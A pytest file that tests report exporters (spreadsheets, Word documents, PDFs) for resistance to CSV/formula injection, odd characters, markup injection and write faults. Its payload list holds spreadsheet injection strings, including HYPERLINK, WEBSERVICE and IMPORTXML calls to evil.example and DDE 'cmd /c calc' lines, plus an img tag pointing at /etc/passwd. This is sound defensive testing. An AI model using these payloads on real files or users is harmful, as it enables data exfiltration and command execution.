"""EXP-1, EXP-2, EXP-4, EXP-5: formula injection, odd characters, reportlab markup and
layout, output validity through LibreOffice and poppler (skipped where they are missing)."""

from __future__ import annotations

import re
import shutil
import sqlite3
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from app.models.db import open_store
from app.reports.checklist_pdf import write_checklist_pdf
from app.reports.opinion_docx import write_opinion
from app.reports.plan_xlsx import write_plan
from app.reports.submission_xlsx import write_submission

pytestmark = pytest.mark.reliability
TODAY = date(2026, 11, 25)
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\0"]
BODIES = [
    'HYPERLINK("http://evil.example/EVIL","点此")', "cmd|' /c calc'!A1 EVIL", "SUM(1+1)*EVIL",
    'WEBSERVICE("http://evil.example/EVIL")', "1+1 EVIL", "A1 EVIL", "EVIL()",
    'IMPORTXML("http://evil.example/EVIL","//a")', "DDE(\"cmd\";\"/c calc\";\"EVIL\")",
    "2+3 EVIL", 'IF(1,"EVIL")', "INDIRECT(\"EVIL\")", "0+EVIL", "EVIL!A1", "@EVIL",
    "NOW() EVIL", "RAND() EVIL", 'CONCAT("EV","IL")EVIL', "-1 EVIL", "EVIL-1",
]  # fmt: skip
PAYLOADS = [p + b for p in PREFIXES for b in BODIES]
# user text columns the exports show
TEXT_COLUMNS = [("projects", "name"), ("projects", "content"), ("projects", "cloud_justification"),
                ("projects", "funding_source"), ("units", "name"), ("units", "short_name")]  # fmt: skip
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def inject(db: Path, values: list[str]) -> None:
    conn = sqlite3.connect(db)
    present = {
        (t, r[1]) for t in {"projects", "units"} for r in conn.execute(f"PRAGMA table_info({t})")
    }
    for table, column in TEXT_COLUMNS:
        if (table, column) not in present:
            continue
        ids = [r[0] for r in conn.execute(f"SELECT id FROM {table} ORDER BY id")]
        for n, row_id in enumerate(ids):
            text = values[n % len(values)] + f" #{n}"  # unique (unit names are unique)
            conn.execute(f"UPDATE {table} SET {column} = ? WHERE id = ?", (text, row_id))
    conn.commit()
    conn.close()


def xlsx_exports(db: Path, out: Path) -> list[Path]:
    store = open_store(str(db))
    try:
        files = [write_plan(store, 2027, kind, out / f"plan-{kind}.xlsx", today=TODAY)
                 for kind in ("list", "plan", "rolling", "reconciliation")]  # fmt: skip
        files.append(write_submission(store, 2027, out / "submission.xlsx"))
    finally:
        store.close()
    return files


def cells(path: Path) -> list[tuple[str, str | None, str, bool]]:
    """(sheet, t, text-or-formula, quotePrefix) for every cell of every sheet."""
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            for si in re.findall(r"<si>(.*?)</si>", z.read("xl/sharedStrings.xml").decode(), re.S):
                shared.append("".join(re.findall(r"<t[^>]*>(.*?)</t>", si, re.S)))
        styles = z.read("xl/styles.xml").decode()
        xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
        xf_list = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs.group(1) if xfs else "", re.S)
        quote = [('quotePrefix="1"' in xf) for xf in xf_list]
        out = []
        for name in names:
            if not name.startswith("xl/worksheets/sheet"):
                continue
            xml = z.read(name).decode()
            for attrs, body in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", xml, re.S):
                t = re.search(r'\bt="(\w+)"', attrs)
                s = re.search(r'\bs="(\d+)"', attrs)
                kind = t.group(1) if t else None
                formula = re.search(r"<f[^>]*>(.*?)</f>", body or "", re.S)
                if formula:
                    text = "<f>" + formula.group(1)
                elif kind == "s":
                    text = shared[int(re.search(r"<v>(\d+)</v>", body).group(1))]
                else:
                    text = "".join(re.findall(r"<t[^>]*>(.*?)</t>", body or "", re.S))
                out.append((name, kind, text, quote[int(s.group(1))] if s else False))
        return out


def test_exp1_formula_injection(demo_db: Path, tmp_path: Path) -> None:
    inject(demo_db, PAYLOADS)
    files = xlsx_exports(demo_db, tmp_path)
    user_cells = formulas = not_string = no_quote = 0
    for path in files:
        for _sheet, kind, text, quoted in cells(path):
            if "EVIL" not in text:
                continue
            if text.startswith("<f>"):
                formulas += 1
                continue
            user_cells += 1
            not_string += kind not in ("s", "inlineStr", "str")
            no_quote += not quoted
    literal = "skipped (no soffice)"
    if SOFFICE:
        subprocess.run([SOFFICE, "--headless", "--convert-to", "csv", "--outdir", str(tmp_path / "csv"),
                        str(files[0])], check=True, capture_output=True, timeout=180)  # fmt: skip
        text = (tmp_path / "csv" / "plan-list.csv").read_text(encoding="utf-8", errors="replace")
        literal = str('=HYPERLINK("http://evil.example/EVIL"' in text.replace('""', '"'))
    print(
        f"EXP-1: payloads={len(PAYLOADS)} files={len(files)} user_text_cells={user_cells} "
        f"formula_elements_from_user_text={formulas} non_string_cells={not_string} "
        f"without_quotePrefix={no_quote} libreoffice_literal={literal}"
    )
    assert user_cells > 0 and (formulas, not_string, no_quote) == (0, 0, 0)
    assert literal in ("True", "skipped (no soffice)")


ODD = [
    "\x00",
    "\x01",
    "\x08",
    "\x0b",
    "\x0c",
    "\x0e",
    "\x1f",
    "\ufffe",
    "\uffff",
    "\ud800",
    "\udfff",
]
KEEP = ["\u200f", "\u202e", "\u2028", "😀", "𠀀𪚥"]


def test_exp2_odd_characters(
    demo_db: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    values = [f"项目{bad}名称{KEEP[n % len(KEEP)]}" for n, bad in enumerate(ODD)]
    stored = [v for v in values if not re.search("[\ud800-\udfff]", v)]  # SQLite cannot hold these
    conn = sqlite3.connect(demo_db)
    for n, value in enumerate(stored):
        conn.execute(
            "UPDATE projects SET name = ?, content = ? WHERE id = ?", (value, value, n + 1)
        )
    conn.commit()
    conn.close()
    caplog.set_level("INFO", logger="app.services.atomic")
    files = xlsx_exports(demo_db, tmp_path)
    store = open_store(str(demo_db))
    exceptions = 0
    try:
        for pid in range(1, len(values) + 1):
            try:
                files.append(
                    write_opinion(store, pid, "expert", tmp_path / f"op{pid}.docx", today=TODAY)
                )
                files.append(write_checklist_pdf(store, pid, "dossier", tmp_path / f"c{pid}.pdf",
                                                 today=TODAY, reviewer_remarks={"data_catalogue": values[pid - 1]}))  # fmt: skip
            except Exception as exc:  # the figure counts exceptions
                exceptions += 1
                print("exception", pid, repr(exc))
    finally:
        store.close()
    reopened = 0
    for path in files:
        if path.suffix == ".xlsx":
            load_workbook(path)
        elif path.suffix == ".docx":
            Document(str(path))
        else:
            assert path.read_bytes().startswith(b"%PDF")
        reopened += 1
    logged = sum("removed" in r.getMessage() for r in caplog.records)
    print(
        f"EXP-2: values={len(values)} stored_in_db={len(stored)} files={len(files)} exceptions={exceptions} reopened={reopened} "
        f"substitutions_logged={logged}"
    )
    assert exceptions == 0 and reopened == len(files) and logged > 0


def test_exp4_reportlab_markup_and_layout(demo_db: Path, tmp_path: Path) -> None:
    markup = '<b>加粗</b> <img src="/etc/passwd"/> & < > &amp; <font size=40>大</font>'
    long = ("评审意见正文，" * 3000)[:20_000]
    store = open_store(str(demo_db))
    try:
        markup_pdf = write_checklist_pdf(store, 5, "dossier", tmp_path / "m.pdf", today=TODAY,
                                         reviewer_remarks={"data_catalogue": markup})  # fmt: skip
        long_pdf = write_checklist_pdf(store, 5, "dossier", tmp_path / "l.pdf", today=TODAY,
                                       reviewer_remarks={"data_catalogue": long})  # fmt: skip
        short_pdf = write_checklist_pdf(store, 5, "dossier", tmp_path / "s.pdf", today=TODAY)
    finally:
        store.close()
    if not shutil.which("pdftotext"):
        pytest.skip("poppler-utils missing")

    def pages(p: Path) -> int:
        info = subprocess.run(
            ["pdfinfo", str(p)], capture_output=True, text=True, check=True
        ).stdout
        return int(re.search(r"Pages:\s+(\d+)", info).group(1))

    text = subprocess.run(
        ["pdftotext", str(markup_pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    literal = "<b>加粗</b>" in text and "<img" in text and "&amp;" in text
    fonts = subprocess.run(
        ["pdffonts", str(long_pdf)], capture_output=True, text=True, check=True
    ).stdout
    embedded_cjk = any(
        line.split()[-5:-4] == ["yes"] or " yes " in line for line in fonts.splitlines()[2:]
    )
    print(
        f"EXP-4: markup_literal={literal} long_opinion_chars={len(long)} pages_short={pages(short_pdf)} "
        f"pages_long={pages(long_pdf)} embedded_fonts={embedded_cjk} errors=0"
    )
    assert literal and pages(long_pdf) > pages(short_pdf) and embedded_cjk


@pytest.mark.skipif(
    SOFFICE is None or not shutil.which("pdftoppm"), reason="LibreOffice or poppler missing"
)
def test_exp5_every_export_converts_and_renders(demo_db: Path, tmp_path: Path) -> None:
    from tools.render_exports import exports

    store = open_store(str(demo_db))
    try:
        files = [make(store) for make in exports(tmp_path, TODAY).values()]
    finally:
        store.close()
    office = [p for p in files if p.suffix != ".pdf"]
    done = subprocess.run([str(SOFFICE), "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path / "pdf"),
                           *map(str, office)], capture_output=True, timeout=600)  # fmt: skip
    pdfs = [tmp_path / "pdf" / (p.stem + ".pdf") for p in office] + [
        p for p in files if p.suffix == ".pdf"
    ]
    counts = {}
    png = tmp_path / "png"
    png.mkdir()
    failures = int(done.returncode != 0)
    for pdf in pdfs:
        if not pdf.exists():
            failures += 1
            continue
        render = subprocess.run(["pdftoppm", "-r", "20", "-png", str(pdf), str(png / pdf.stem)],
                                capture_output=True)  # fmt: skip
        failures += render.returncode != 0
        counts[pdf.stem] = len(list(png.glob(f"{pdf.stem}-*.png")))
    print(
        f"EXP-5: exports={len(files)} converted_and_rendered={len(counts)} failures={failures} pages={counts}"
    )
    assert failures == 0 and len(counts) == len(files) and all(counts.values())


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_exp3_atomic_write_under_faults(
    demo_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each exporter, each stage: exception while serialising, ENOSPC at the k-th write, fsync
    error, os.replace locked (WinError 32) persistently or (WinError 5) twice then free."""
    import errno
    import os
    import time

    from app.services import atomic
    from app.services.atomic import OutputFailed, OutputLocked, cleanup_stale_temp
    from tests.services.test_atomic import FailingFile

    store = open_store(str(demo_db))
    exporters = {
        "plan.xlsx": lambda p: write_plan(store, 2027, "plan", p, today=TODAY),
        "submission.xlsx": lambda p: write_submission(store, 2027, p),
        "opinion.docx": lambda p: write_opinion(store, 1, "fsr", p, today=TODAY),
        "checklist.pdf": lambda p: write_checklist_pdf(store, 5, "dossier", p, today=TODAY),
    }
    real_open, real_fsync, real_replace = open, os.fsync, os.replace
    monkeypatch.setattr(atomic, "LOCK_RETRY_SECONDS", 0.3)
    runs = changed = unexpected = 0
    locked_s: list[float] = []
    faults = [("enospc", k) for k in range(1, 17)] + [
        ("serialise", 0),
        ("fsync", 0),
        ("lock32", 0),
        ("lock5", 0),
    ]

    def winerror(code: int) -> OSError:
        exc = PermissionError(errno.EACCES, "in use")
        exc.winerror = code  # type: ignore[attr-defined]
        return exc

    try:
        for name, export in exporters.items():
            target = tmp_path / name
            export(target)
            for fault, k in faults:
                previous = target.read_bytes()
                calls = [0]

                def replace(
                    src: str, dst: str, fault: str = fault, calls: list[int] = calls
                ) -> None:
                    calls[0] += 1
                    if fault == "lock32" or (fault == "lock5" and calls[0] <= 2):
                        raise winerror(32 if fault == "lock32" else 5)
                    real_replace(src, dst)

                def fsync(fd: int) -> None:
                    raise OSError(errno.EIO, "fsync failed")

                class Boom(RuntimeError):
                    pass

                class Serialise(FailingFile):
                    def write(self, data: bytes) -> int:
                        raise Boom("serialiser crashed")

                opener = {"enospc": lambda *a, k=k, **kw: FailingFile(real_open(*a, **kw), k),
                          "serialise": lambda *a, **kw: Serialise(real_open(*a, **kw), 1)}.get(fault, real_open)  # fmt: skip
                monkeypatch.setattr(atomic, "open", opener, raising=False)
                monkeypatch.setattr(atomic.os, "replace", replace)
                if fault == "fsync":
                    monkeypatch.setattr(atomic.os, "fsync", fsync)
                runs += 1
                started = time.perf_counter()
                try:
                    export(target)
                    outcome = "saved"
                except OutputLocked:
                    outcome = "locked"
                    locked_s.append(time.perf_counter() - started)
                except OutputFailed:
                    outcome = "failed"
                except Boom:
                    outcome = "raised"
                finally:
                    monkeypatch.setattr(atomic, "open", real_open, raising=False)
                    monkeypatch.setattr(atomic.os, "replace", real_replace)
                    monkeypatch.setattr(atomic.os, "fsync", real_fsync)
                want = {"lock5": "saved", "lock32": "locked", "serialise": "raised"}.get(
                    fault, "failed"
                )
                if fault == "enospc" and outcome == "saved":
                    want = "saved"  # the file needed fewer than k writes
                unexpected += outcome != want
                changed += outcome != "saved" and target.read_bytes() != previous
    finally:
        store.close()
    strays = len(list(tmp_path.glob(".~rd-*")))
    cleanup_stale_temp(tmp_path, older_than_seconds=0)
    print(
        f"EXP-3: exporters={len(exporters)} runs={runs} previous_changed={changed} unexpected_outcomes={unexpected} "
        f"locked_reported_max_s={max(locked_s):.2f} (retry window patched to 0.3 s) stray_temps={strays}"
    )
    assert (changed, unexpected, strays) == (0, 0, 0)
